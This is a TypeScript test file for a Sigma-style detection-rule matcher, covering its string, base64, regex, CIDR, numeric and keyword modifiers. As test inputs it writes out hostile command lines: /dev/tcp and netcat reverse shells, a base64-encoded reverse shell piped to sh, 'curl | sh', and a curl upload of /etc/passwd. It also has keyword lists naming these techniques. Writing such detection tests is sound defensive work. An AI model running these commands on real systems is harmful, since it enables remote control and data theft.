import { describe, expect, it } from 'vitest';
import { base64OffsetVariants, windashVariants } from './field-matcher.js';
import { net, proc, refusal, rule } from './test-helpers.js';

const cl = (s: string) => proc({ 'process.command_line': s });

describe('plain values', () => {
  it('equals, case-insensitively by default', () => {
    const m = rule({ sel: { Image: '/usr/bin/curl' }, condition: 'sel' });
    expect(m(proc({ 'process.executable': '/usr/bin/curl' }))).toBe(true);
    expect(m(proc({ 'process.executable': '/USR/BIN/CURL' }))).toBe(true);
    expect(m(proc({ 'process.executable': '/usr/bin/curl2' }))).toBe(false);
    expect(m(proc({}))).toBe(false);
  });
  it('wildcards * and ? and escapes', () => {
    const m = rule({ sel: { CommandLine: 'a*b?c' }, condition: 'sel' });
    expect(m(cl('aXXXbZc'))).toBe(true);
    expect(m(cl('abZc'))).toBe(true);
    expect(m(cl('aXXbc'))).toBe(false);
    expect(m(cl('xaXbZc'))).toBe(false);
    const lit = rule({ sel: { CommandLine: 'a\\*b\\?c\\\\d' }, condition: 'sel' });
    expect(lit(cl('a*b?c\\d'))).toBe(true);
    expect(lit(cl('aXb?c\\d'))).toBe(false);
    const other = rule({ sel: { CommandLine: 'c:\\temp' }, condition: 'sel' });
    expect(other(cl('c:\\temp'))).toBe(true);
  });
  it('wildcards across newlines', () => {
    expect(rule({ sel: { CommandLine: 'a*b' }, condition: 'sel' })(cl('a\nb'))).toBe(true);
  });
  it('value lists are OR', () => {
    const m = rule({ sel: { Image: ['/bin/sh', '/bin/bash'] }, condition: 'sel' });
    expect(m(proc({ 'process.executable': '/bin/bash' }))).toBe(true);
    expect(m(proc({ 'process.executable': '/bin/zsh' }))).toBe(false);
  });
  it('numbers compare as text for equality', () => {
    const m = rule({ sel: { DestinationPort: [4444, 1337] }, condition: 'sel' }, 'network_connection');
    expect(m(net({ 'destination.port': 4444 }))).toBe(true);
    expect(m(net({ 'destination.port': 44444 }))).toBe(false);
  });
  it('null matches an absent field only', () => {
    const m = rule({ sel: { Image: '/bin/sh', ParentImage: null }, condition: 'sel' });
    expect(m(proc({ 'process.executable': '/bin/sh' }))).toBe(true);
    expect(m(proc({ 'process.executable': '/bin/sh', 'process.parent.executable': '/bin/x' }))).toBe(false);
  });
  it('array fields match when any element does', () => {
    const m = rule({ sel: { 'process.args': '-e' }, condition: 'sel' });
    expect(m(proc({ 'process.args': ['nc', '-e', '/bin/sh'] }))).toBe(true);
    expect(m(proc({ 'process.args': ['nc', '-l'] }))).toBe(false);
  });
});

describe('string modifiers', () => {
  it('contains / startswith / endswith', () => {
    expect(rule({ s: { 'CommandLine|contains': 'dev/tcp' }, condition: 's' })(cl('bash -i >& /DEV/TCP/1.2.3.4/1'))).toBe(true);
    expect(rule({ s: { 'CommandLine|contains': 'dev/tcp' }, condition: 's' })(cl('bash -i dev/udp'))).toBe(false);
    expect(rule({ s: { 'CommandLine|startswith': 'sh -c' }, condition: 's' })(cl('sh -c id'))).toBe(true);
    expect(rule({ s: { 'CommandLine|startswith': 'sh -c' }, condition: 's' })(cl('bash -c id'))).toBe(false);
    expect(rule({ s: { 'Image|endswith': '/nc' }, condition: 's' })(proc({ 'process.executable': '/usr/bin/nc' }))).toBe(true);
    expect(rule({ s: { 'Image|endswith': '/nc' }, condition: 's' })(proc({ 'process.executable': '/usr/bin/ncat' }))).toBe(false);
  });
  it('contains with a wildcard inside', () => {
    const m = rule({ s: { 'CommandLine|contains': 'curl*|*sh' }, condition: 's' });
    expect(m(cl('x curl http://a | sh'))).toBe(true);
    expect(m(cl('x curl http://a > sh'))).toBe(false);
  });
  it('all: every value must match', () => {
    const m = rule({ s: { 'CommandLine|contains|all': ['s_client', '-connect'] }, condition: 's' });
    expect(m(cl('openssl s_client -connect 1.2.3.4:443'))).toBe(true);
    expect(m(cl('openssl s_client -quiet'))).toBe(false);
    const args = rule({ s: { 'process.args|all': ['-e', '/bin/sh'] }, condition: 's' });
    expect(args(proc({ 'process.args': ['nc', '-e', '/bin/sh'] }))).toBe(true);
    expect(args(proc({ 'process.args': ['nc', '-e', '/bin/bash'] }))).toBe(false);
  });
  it('cased', () => {
    const m = rule({ s: { 'CommandLine|contains|cased': ' -O ' }, condition: 's' });
    expect(m(cl('wget -O /tmp/x'))).toBe(true);
    expect(m(cl('wget -o /tmp/x'))).toBe(false);
  });
  it('windash', () => {
    expect(windashVariants('-e')).toEqual(['-e', '/e', '\u2013e', '\u2014e', '\u2015e']);
    const m = rule({ s: { 'CommandLine|windash|contains': ' -exec ' }, condition: 's' });
    expect(m(cl('find . /exec rm'))).toBe(true);
    expect(m(cl('find . \u2013exec rm'))).toBe(true);
    expect(m(cl('find . -exec rm'))).toBe(true);
    expect(m(cl('find . +exec rm'))).toBe(false);
  });
  it('base64 and base64offset', () => {
    const enc = Buffer.from('/bin/bash').toString('base64');
    const m = rule({ s: { 'CommandLine|base64|contains': '/bin/bash' }, condition: 's' });
    expect(m(cl(`echo ${enc} | base64 -d`))).toBe(true);
    expect(m(cl(`echo ${enc.toLowerCase()} | base64 -d`))).toBe(false); // base64 is case-sensitive
    const off = rule({ s: { 'CommandLine|base64offset|contains': 'bash -i' }, condition: 's' });
    for (const prefix of ['', 'x', 'xy']) {
      const whole = Buffer.from(`${prefix}bash -i >& /dev/tcp/1.2.3.4/4444`).toString('base64');
      expect(off(cl(`echo ${whole} | base64 -d | sh`))).toBe(true);
    }
    expect(off(cl(`echo ${Buffer.from('bash -c id').toString('base64')} | base64 -d`))).toBe(false);
    expect(base64OffsetVariants('http')).toEqual(['aHR0c', 'h0dH', 'odHRw']);
  });
});

describe('re', () => {
  it('is case-sensitive and unanchored; i, m, s sub-modifiers', () => {
    const m = rule({ s: { 'CommandLine|re': '\\s-[FTd]\\s' }, condition: 's' });
    expect(m(cl('curl -F a=@/etc/passwd http://x'))).toBe(true);
    expect(m(cl('curl -f http://x'))).toBe(false);
    const i = rule({ s: { 'CommandLine|re|i': 'BASE64 -D' }, condition: 's' });
    expect(i(cl('base64 -d'))).toBe(true);
    const ml = rule({ s: { 'CommandLine|re|m': '^id$' }, condition: 's' });
    expect(ml(cl('x\nid\ny'))).toBe(true);
    expect(rule({ s: { 'CommandLine|re': '^id$' }, condition: 's' })(cl('x\nid\ny'))).toBe(false);
    const sl = rule({ s: { 'CommandLine|re|s': 'a.b' }, condition: 's' });
    expect(sl(cl('a\nb'))).toBe(true);
    expect(rule({ s: { 'CommandLine|re': 'a.b' }, condition: 's' })(cl('a\nb'))).toBe(false);
  });
  it('turns a leading (?i) into the i flag', () => {
    const m = rule({ s: { 'TargetFilename|re': '(?i)/lib/python3\\.([5-9]|[0-9]{2})/site-packages/' }, condition: 's' }, 'file_event');
    expect(m({ '@timestamp': 1, 'event.action': 'file_created', 'file.path': '/usr/LIB/python3.11/site-packages/x.pth' } as never)).toBe(true);
    expect(m({ '@timestamp': 1, 'event.action': 'file_created', 'file.path': '/usr/lib/python2.7/site-packages/x.pth' } as never)).toBe(false);
  });
  it('refuses a bad regex and stray flags', () => {
    expect(refusal({ s: { 'CommandLine|re': '(' }, condition: 's' })).toMatch(/^E_VALUE: bad regular expression/);
    expect(refusal({ s: { 'CommandLine|contains|i': 'x' }, condition: 's' })).toMatch(/^E_MODIFIER/);
  });
});

describe('cidr', () => {
  it('IPv4, IPv6 and IPv4-mapped IPv6', () => {
    const m = rule({ s: { 'DestinationIp|cidr': ['10.0.0.0/8', 'fc00::/7'] }, condition: 's' }, 'network_connection');
    expect(m(net({ 'destination.ip': '10.1.2.3' }))).toBe(true);
    expect(m(net({ 'destination.ip': '11.1.2.3' }))).toBe(false);
    expect(m(net({ 'destination.ip': 'fd12::1' }))).toBe(true);
    expect(m(net({ 'destination.ip': '2001:db8::1' }))).toBe(false);
    expect(m(net({ 'destination.ip': '::ffff:10.9.9.9' }))).toBe(true);
    expect(m(net({ 'destination.ip': 'not-an-ip' }))).toBe(false);
  });
  it('refuses a malformed block', () => {
    expect(refusal({ s: { 'DestinationIp|cidr': '10.0.0.0/33' }, condition: 's' }, 'network_connection')).toMatch(/^E_VALUE/);
  });
});

describe('exists and numeric comparisons', () => {
  it('exists', () => {
    const yes = rule({ s: { 'Image|endswith': '/sh', 'ParentCommandLine|exists': true }, condition: 's' });
    expect(yes(proc({ 'process.executable': '/bin/sh', 'process.parent.command_line': 'x' }))).toBe(true);
    expect(yes(proc({ 'process.executable': '/bin/sh' }))).toBe(false);
    const no = rule({ s: { 'Image|endswith': '/sh', 'ParentCommandLine|exists': false }, condition: 's' });
    expect(no(proc({ 'process.executable': '/bin/sh' }))).toBe(true);
    expect(no(proc({ 'process.executable': '/bin/sh', 'process.parent.command_line': 'x' }))).toBe(false);
  });
  it('gt, gte, lt, lte', () => {
    const port = (k: string, v: number) => rule({ s: { [`DestinationPort|${k}`]: 1024 }, condition: 's' }, 'network_connection')(net({ 'destination.port': v }));
    expect(port('gt', 1025)).toBe(true);
    expect(port('gt', 1024)).toBe(false);
    expect(port('gte', 1024)).toBe(true);
    expect(port('gte', 1023)).toBe(false);
    expect(port('lt', 1023)).toBe(true);
    expect(port('lt', 1024)).toBe(false);
    expect(port('lte', 1024)).toBe(true);
    expect(port('lte', 1025)).toBe(false);
    expect(refusal({ s: { 'DestinationPort|gt': 'abc' }, condition: 's' }, 'network_connection')).toMatch(/^E_VALUE/);
  });
});

describe('keywords', () => {
  it('a keyword list searches the text fields', () => {
    const m = rule({ keywords: ['/dev/tcp/', 'mkfifo'], condition: 'keywords' });
    expect(m(cl('bash -i >& /dev/tcp/1.2.3.4/9 0>&1'))).toBe(true);
    expect(m(proc({ 'process.parent.command_line': 'MKFIFO /tmp/f' }))).toBe(true);
    expect(m(cl('bash -i'))).toBe(false);
  });
  it("'|all' keyword maps need every value", () => {
    const m = rule({ keywords: { '|all': ['bash -c', '/dev/tcp/'] }, condition: 'keywords' });
    expect(m(cl('bash -c "sh >& /dev/tcp/1.2.3.4/1"'))).toBe(true);
    expect(m(cl('bash -c id'))).toBe(false);
  });
});

describe('refusals', () => {
  it('unknown and Windows-only modifiers, unmapped fields', () => {
    expect(refusal({ s: { 'CommandLine|foo': 'x' }, condition: 's' })).toMatch(/^E_MODIFIER: unknown modifier 'foo'/);
    expect(refusal({ s: { 'CommandLine|wide|base64': 'x' }, condition: 's' })).toMatch(/^E_MODIFIER: modifier 'wide'/);
    expect(refusal({ s: { 'CommandLine|contains|startswith': 'x' }, condition: 's' })).toMatch(/^E_MODIFIER/);
    expect(refusal({ s: { LogonId: 0 }, condition: 's' })).toMatch(/^E_FIELD: LogonId/);
    expect(refusal({ s: { Frobnicate: 0 }, condition: 's' })).toMatch(/^E_FIELD: field 'Frobnicate'/);
  });
  it('Initiated maps to network.direction', () => {
    const m = rule({ s: { Initiated: 'true', DestinationPort: 4444 }, condition: 's' }, 'network_connection');
    expect(m(net({ 'destination.port': 4444, 'network.direction': 'egress' }))).toBe(true);
    expect(m(net({ 'destination.port': 4444, 'network.direction': 'ingress' }))).toBe(false);
  });
});
